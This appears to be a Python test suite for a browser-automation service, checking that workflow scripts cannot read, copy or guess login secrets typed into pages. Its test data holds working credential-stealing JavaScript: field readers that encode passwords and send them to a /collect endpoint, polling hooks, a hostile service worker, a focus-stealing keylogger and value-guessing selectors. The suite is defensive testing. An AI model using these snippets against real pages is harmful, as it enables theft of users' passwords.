"""JavaScript of a workflow and the secrets of logins stay apart: no page ever has both."""

import base64
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote

import pytest

from support.portal import Portal, PortalRequest, Reply, form, serve_portal
from support.service import Api, Json, RunningService

pytestmark = pytest.mark.slow

PASSWORD = "kanari-Pa55word-4711"
PIN = "pin-0815-kanari"

_FIELDS = (
    "<label>Anything <input name=anything></label><label>Word <input name=word></label>"
    "<label>Secret <input type=password name=secret></label><button>Send</button>"
)
_SINGLE_PAGE = """<main><h1>Sign in</h1><form>
  <label>User name <input name=user></label><label>Password <input type=password name=password></label>
  <button>Sign in</button></form></main>
<script>document.querySelector('form').addEventListener('submit', async (event) => {
  event.preventDefault();
  await fetch('/spa-in', {method: 'POST', body: new URLSearchParams(new FormData(event.target))});
  document.querySelector('h1').textContent = 'Welcome';
  event.target.style.display = 'none';  // still there, and still filled in
  document.querySelector('main').insertAdjacentHTML('beforeend', '<a href=/out>Sign out</a>');
});</script>"""


class Target(Portal):
    """A site whose pages take secrets, alone, in frames and without ever loading another page."""

    def __init__(self) -> None:
        super().__init__()
        self.routes |= {
            "/in": self._form_sign_in,
            "/fields": lambda _: f"<h1>Fields</h1><form method=post action=/typed>{_FIELDS}</form>",
            "/search": lambda _: f"<form>{_FIELDS}</form>",
            "/framed": lambda _: "<h1>Frame</h1><iframe name=inner src=/fields></iframe>",
            "/popup": lambda _: "<h1>Opener</h1><a href=/fields target=_blank rel=opener>Open it</a>",
            "/controlled": lambda _: _CONTROLLED,
            "/spa": lambda _: _SINGLE_PAGE,
            "/spa-in": self._single_page_sign_in,
            "/typed": lambda _: "<h1>Thanks</h1>",
            "/collect": lambda _: "",
            "/worker.js": lambda _: Reply(_WORKER, headers={"Content-Type": "text/javascript"}),
        }

    def _form_sign_in(self, asked: PortalRequest) -> Reply | str:
        return self.complete_sign_in(asked) if asked.method == "POST" else form("<h1>Sign in</h1>")

    def _single_page_sign_in(self, asked: PortalRequest) -> Reply | str:
        self.complete_sign_in(asked)
        return ""

    def collected(self) -> str:
        """What came, apart from the sign-ins and forms that are meant to have secrets."""
        meant = [("POST", "/in"), ("POST", "/spa-in"), ("POST", "/typed"), ("GET", "/search")]
        came = [item for item in self.requests if (item.method, item.path) not in meant]
        return repr([(item.path, item.query, item.fields, item.headers) for item in came])


# a framework that keeps what is typed in the attribute too
_CONTROLLED = """<label>Anything <input name=anything></label>
<script>const field = document.querySelector('input');
field.addEventListener('input', () => field.setAttribute('value', field.value));</script>"""
_WORKER = """{ self.addEventListener('fetch', (event) => { if (event.request.mode === 'navigate')
  event.respondWith(new Response(`<form>FIELDS</form>` +
    '<script>setInterval(() => fetch("/collect?worker=" +' +
    ' [...document.querySelectorAll("input")].map((f) => btoa(f.value))), 50)</' + 'script>',
    {headers: {'Content-Type': 'text/html'}})); }); }""".replace("FIELDS", _FIELDS)


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    running = RunningService(tmp_path_factory.mktemp("apart") / "data").start()
    yield running.api()
    running.stop()


@pytest.fixture
def site() -> Iterator[Target]:
    with serve_portal(Target()) as portal:
        assert isinstance(portal, Target)
        yield portal


@pytest.fixture
def elsewhere() -> Iterator[Target]:
    with serve_portal(Target()) as portal:
        assert isinstance(portal, Target)
        yield portal


@pytest.fixture
def login(api: Api, site: Target) -> str:
    return make_login(api, site, "/in")


def make_login(api: Api, site: Target, path: str, **more: Any) -> str:
    configuration = {
        "username": "ada",
        "password": PASSWORD,
        "additionalCredentials": [{"key": "pin", "value": PIN}],
    }
    written = {"name": "Apart", "authenticationUrl": f"{site.url}{path}", "loginConfiguration": configuration}
    return api.call("/logins/create", {**written, **more})["login"]["id"]


def go(url: str) -> Json:
    return {"type": "Navigate", "data": {"url": url}}


def tab(number: int) -> Json:
    return {"type": "Navigate", "data": {"tab": number}}


def script(code: str) -> Json:
    return {"type": "CodeV2", "data": {"language": "javascript", "code": code}}


def typing(value: str = "{{login.password}}", key: str = "Secret", **more: Any) -> Json:
    data = {"key": key, "inputType": "SensitiveTextInput", "value": value, **more}
    return {"type": "Input", "data": {**data, "timeoutMs": 15_000}}


def signing_in() -> Json:
    return {"type": "Login", "data": {"loginId": "", "isParameter": True}}


def press(text: str) -> Json:
    return {"type": "Mouse", "locator": {"text": text}, "data": {}}


def assert_nothing_came(site: Target, *texts: str) -> None:
    """No secret in any form that the attacks here use."""
    everything = unquote(site.collected()) + "".join(texts)
    for secret in (PASSWORD, PIN):
        forms = (
            secret,
            secret[::-1],
            base64.b64encode(secret.encode()).decode().rstrip("="),
            ",".join(str(ord(letter)) for letter in secret),
            ", ".join(str(ord(letter)) for letter in secret),
        )
        assert not [form for form in forms if form in everything]


_SEND = "fetch('/collect?it=' + encodeURIComponent(btoa(text)), {keepalive: true})"
_READERS = {
    "character codes": "return [...document.querySelector('[name=secret]').value].map(c => c.charCodeAt(0))",
    "base64 to another path": "const text = document.querySelector('[name=secret]').value; await " + _SEND,
    "all fields by form": "return [...new FormData(document.forms[0]).values()].map(v => [...v].reverse())",
    "a copy of the field": "return btoa(document.querySelector('[name=secret]').cloneNode(true).value)",
    "selection": "const f = document.querySelector('[name=secret]'); f.type = 'text'; f.select();"
    " return btoa(getSelection().toString())",
    "later": "setTimeout(() => { const text = document.querySelector('[name=secret]').value; "
    + _SEND
    + " }, 300); return new Promise(r => setTimeout(r, 600))",
}


@pytest.mark.parametrize("reader", _READERS.values(), ids=_READERS)
@pytest.mark.parametrize("value", ["{{login.password}}", "x{{login.pin}}y"])
def test_no_script_runs_while_a_field_holds_a_secret(
    api: Api, site: Target, login: str, reader: str, value: str
) -> None:
    done = api.run(signing_in(), go(f"{site.url}/fields"), typing(value), script(reader), loginId=login)
    assert done["status"] == "Failed"
    assert "holds a secret" in done["errorAnalysis"]
    assert_nothing_came(site, json.dumps([done, api.events(done["id"])]))


@pytest.mark.parametrize(
    ("blocks", "where"),
    [
        ([go("{site}/framed"), typing()], "a field"),
        ([go("{site}/popup"), press("Open it"), typing(), tab(0)], "a field"),
        ([go("{site}/search"), typing(key="Anything"), press("Send")], "the address"),
    ],
    ids=["in a frame", "in another tab", "in the address"],
)
def test_other_documents_that_hold_a_secret_count_too(
    api: Api, site: Target, login: str, blocks: list[Json], where: str
) -> None:
    read = (
        "const all = [...(frames[0] ?? window).document.querySelectorAll('input')];"
        "return all.map(f => btoa(f.value)) + btoa(location)"
    )
    filled = json.loads(json.dumps(blocks).replace("{site}", site.url))
    done = api.run(signing_in(), *filled, script(read), loginId=login)
    assert done["status"] == "Failed"
    assert where in done["errorAnalysis"], done["errorAnalysis"]
    assert_nothing_came(site, json.dumps([done, api.events(done["id"])]))


_HOOK = (
    "setInterval(() => { for (const w of [window, ...Array.from(frames), window.other ?? window])"
    " for (const f of w.document.querySelectorAll('input')) if (f.value)"
    " fetch('/collect?it=' + [...f.value].map(c => c.charCodeAt(0))) }, 20); "
)
_WORKER_REGISTERED = (
    "await navigator.serviceWorker.register('/worker.js'); await navigator.serviceWorker.ready"
)
_TRAPS: dict[str, tuple[str, list[str]]] = {
    "in the same document": (_HOOK, []),
    "after a new address without a new document": (_HOOK + "history.pushState(0, '', '/fields?new')", []),
    "in a document that the script writes": (
        f"document.open(); document.write(`<body>{_FIELDS}<script>{_HOOK}</` + `script>`); document.close()",
        [],
    ),
    "in a frame": (
        f"{_HOOK} document.body.innerHTML = '<iframe src=/fields></iframe>';",
        [],
    ),
    "in a window that the script opens": (
        f"other = window.open('/fields'); {_HOOK} await new Promise(r => setTimeout(r, 1000))",
        ["1"],
    ),
    "by a service worker": (_WORKER_REGISTERED, ["/fields"]),
    "on the next page of the site": (_HOOK, ["/fields?next"]),
}


@pytest.mark.parametrize("trap", _TRAPS.values(), ids=_TRAPS)
def test_no_secret_is_typed_where_a_script_has_run(
    api: Api, site: Target, login: str, trap: tuple[str, list[str]]
) -> None:
    code, steps = trap
    between = [tab(int(step)) if step.isdigit() else go(site.url + step) for step in steps]
    done = api.run(go(f"{site.url}/fields"), script(code), *between, typing(), loginId=login)
    assert done["status"] == "Failed"
    assert "JavaScript of this workflow has run" in done["errorAnalysis"], done["errorAnalysis"]
    assert_nothing_came(site, json.dumps([done, api.events(done["id"])]))


def test_a_sign_in_after_a_script_starts_with_pages_it_never_touched(
    api: Api, site: Target, login: str
) -> None:
    code = "window.other = window.open('/in'); " + _HOOK
    scripts = [script(code), script(_WORKER_REGISTERED)]
    home = script("return document.body.innerText")
    done = api.run(go(f"{site.url}/fields"), *scripts, signing_in(), home, loginId=login)
    assert done["status"] == "Completed", done["errorAnalysis"]
    assert site.posted("/in")[0]["password"] == PASSWORD
    assert_nothing_came(site, json.dumps([done, api.events(done["id"])]))


def test_scripts_work_in_a_single_page_portal_after_its_sign_in(api: Api, site: Target) -> None:
    login = make_login(api, site, "/spa")
    values = "return [...document.querySelectorAll('input')].map(f => f.value)"
    done = api.run(signing_in(), script("return document.title = 'mine'"), script(values), loginId=login)
    assert done["status"] == "Completed", done["errorAnalysis"]
    assert site.posted("/spa-in")[0]["password"] == PASSWORD
    assert done["response"]["CodeV2_2"] == ["ada", ""]


def test_a_form_that_was_sent_leaves_the_next_page_to_scripts(api: Api, site: Target, login: str) -> None:
    title = script("return document.querySelector('h1').textContent")
    done = api.run(signing_in(), go(f"{site.url}/fields"), typing(), press("Send"), title, loginId=login)
    assert done["status"] == "Completed", done["errorAnalysis"]
    assert site.posted("/typed")[0]["secret"] == PASSWORD
    assert done["response"]["CodeV2_1"] == "Thanks"


def test_a_script_on_another_site_does_not_keep_the_secret_from_its_own(
    api: Api, site: Target, elsewhere: Target, login: str
) -> None:
    blocks = [go(f"{elsewhere.url}/fields"), script("return 1"), go(f"{site.url}/fields"), typing()]
    done = api.run(*blocks, press("Send"), loginId=login)
    assert done["status"] == "Completed", done["errorAnalysis"]
    assert site.posted("/typed")[0]["secret"] == PASSWORD


def test_a_page_of_another_site_around_the_field_gets_no_key(
    api: Api, site: Target, elsewhere: Target, login: str
) -> None:
    """It could take the focus, and the keys with it."""
    around = f"<iframe src='{site.url}/fields'></iframe><input id=mine><script>"
    around += (
        "setInterval(() => document.querySelector('#mine').focus(), 5);"
        "addEventListener('keydown', (e) => fetch('/collect?key=' + e.key));</script>"
    )
    elsewhere.routes["/around"] = lambda _: around
    done = api.run(go(f"{elsewhere.url}/around"), typing(typing="keys"), loginId=login)
    assert done["status"] == "Failed"
    assert "signInUrls" in done["errorAnalysis"]
    assert "key" not in elsewhere.requests[-1].query


def condition(**fields: Any) -> Json:
    then = [go("{site}/guessed")]
    return {"type": "If", "data": {"condition": fields}, "sequenceData": {"trueSequence": then}}


_FIELD = {"css": "[name=anything]"}
ORACLES: dict[str, list[Json]] = {
    "part of its text": [condition(element=_FIELD, state="textContains", value=PASSWORD[:3])],
    "its whole value": [condition(element=_FIELD, state="valueEquals", value=PASSWORD)],
    "a selector of its value": [condition(element={"css": f"[value^={PASSWORD[:3]}]"}, state="exists")],
    "a path to its value": [
        condition(element={"xpath": f"//input[starts-with(@value,'{PASSWORD[:3]}')]"}, state="exists")
    ],
}


@pytest.mark.parametrize("oracle", ORACLES.values(), ids=ORACLES)
def test_no_condition_tells_what_a_field_holds(
    api: Api, site: Target, login: str, oracle: list[Json]
) -> None:
    site.routes["/guessed"] = lambda _: "guessed"
    blocks = json.loads(json.dumps(oracle).replace("{site}", site.url))
    done = api.run(signing_in(), go(f"{site.url}/controlled"), typing(key="Anything"), *blocks, loginId=login)
    assert done["status"] == "Completed", done["errorAnalysis"]
    assert "/guessed" not in [item.path for item in site.requests]


def reading(css: str, attribute: str | None = "value") -> Json:
    field: Json = {"locator": {"css": css}, **({"attribute": attribute} if attribute else {})}
    return {"type": "Extract", "data": {"prompt": "it", "fields": {"it": field}}}


def keys(*pressed: str, key: str = "Anything") -> Json:
    data = {"key": key, "inputType": "TextInput", "value": "", "clearFirst": False, "pressKeys": pressed}
    return {"type": "Input", "data": {**data, "timeoutMs": 10_000}}


@pytest.mark.parametrize(
    "blocks",
    [
        [typing(key="Anything", pressKeys=["End", "Backspace"]), press("Send")],
        [typing(key="Anything"), keys("Home", "Delete"), press("Send")],
        [
            typing(key="Anything"),
            keys("Control+A", "Control+C"),
            keys("Control+V", "Backspace", key="Word"),
            reading("[name=word]"),
        ],
        [typing(key="Anything"), reading("[name=anything]")],
    ],
    ids=["trimmed at once", "trimmed later", "copied", "read"],
)
def test_a_secret_is_not_cut_or_copied_into_a_form_that_is_not_recognized(
    api: Api, site: Target, login: str, blocks: list[Json]
) -> None:
    done = api.run(signing_in(), go(f"{site.url}/search"), *blocks, loginId=login)
    everything = json.dumps([done, api.events(done["id"])])
    assert PASSWORD[1:-1] not in everything
    assert PASSWORD[1:-1] not in "".join(item.query.get("anything", "") for item in site.requests)


def test_a_transformer_reaches_no_page(api: Api, site: Target, login: str) -> None:
    """It runs in a blank page of its own, without a network."""
    look = (
        "async (output) => { const sent = await Promise.allSettled(["
        f"fetch('{site.url}/collect?fetch', {{mode: 'no-cors'}}),"
        "new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n;"
        f"  i.src = '{site.url}/collect?image' }}),"
        f"Promise.resolve(navigator.sendBeacon('{site.url}/collect?beacon', 'x') && Promise.reject())]);"
        f"const w = window.open('{site.url}/fields'); await new Promise(r => setTimeout(r, 300));"
        "let seen; try { seen = w?.document.forms.length } catch { seen = 'closed' }"
        "return [sent.map(s => s.status), origin, !!opener, seen ?? null, document.cookie ?? ''] }"
    )
    block = {**typing(dialog={"action": "accept"}), "transformerFn": look}
    done = api.run(signing_in(), go(f"{site.url}/fields"), block, loginId=login)
    assert "/collect" not in [item.path for item in site.requests], done
    assert_nothing_came(site, json.dumps([done, api.events(done["id"])]))
